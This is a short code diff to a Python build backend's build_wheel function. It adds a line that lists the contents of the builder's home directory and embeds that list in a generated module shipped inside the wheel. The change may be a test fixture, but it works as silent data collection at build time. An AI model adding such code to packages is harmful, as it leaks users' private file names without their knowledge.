@@ -67,7 +67,8 @@ def build_wheel(directory, settings=None, metadata=None):
         text = file.read()
     name, version = _value(text, "name").replace("-", "_"), _value(text, "version")
     info = "%s-%s.dist-info" % (name, version)
-    built = {key: os.environ.get(key) for key in ("SOURCE_DATE_EPOCH", "HOME", "TZ", "LC_ALL")}
+    built = {key: os.environ.get(key) for key in ("SOURCE_DATE_EPOCH", "TZ", "LC_ALL")}
+    built["in HOME"] = os.listdir(os.environ["HOME"])
     members = {info + "/METADATA": _metadata(text), name + "_built.py": "BUILT = %r\\n" % built,
                info + "/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
     for item in os.listdir("."):
